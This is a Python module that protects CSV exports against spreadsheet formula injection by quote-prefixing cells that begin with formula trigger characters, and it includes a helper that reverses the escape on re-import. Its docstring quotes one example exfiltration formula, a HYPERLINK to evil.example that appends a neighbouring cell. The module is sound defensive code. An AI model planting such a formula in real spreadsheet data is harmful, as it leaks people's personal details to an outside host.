"""Cells of the CSV files we write, safe to open in a spreadsheet (pure).

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return before one) as a formula: ``=HYPERLINK("https://evil.example?"&A2, "click")``
in a reader's name would send the next cell (an address) away when an editor clicks it. As
OWASP recommends, such cells get a leading single quote, which spreadsheets show as text;
:func:`restore_cell` removes it again when our own export is imported.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: str) -> str:
    """``value`` prefixed with ``'`` when a spreadsheet would take it for a formula."""
    if value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values: Iterable[str]) -> list[str]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]


def restore_cell(value: str) -> str:
    """The value :func:`safe_cell` was given (a cell read back from an exported file)."""
    if value.startswith("'") and value[1:2] and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value
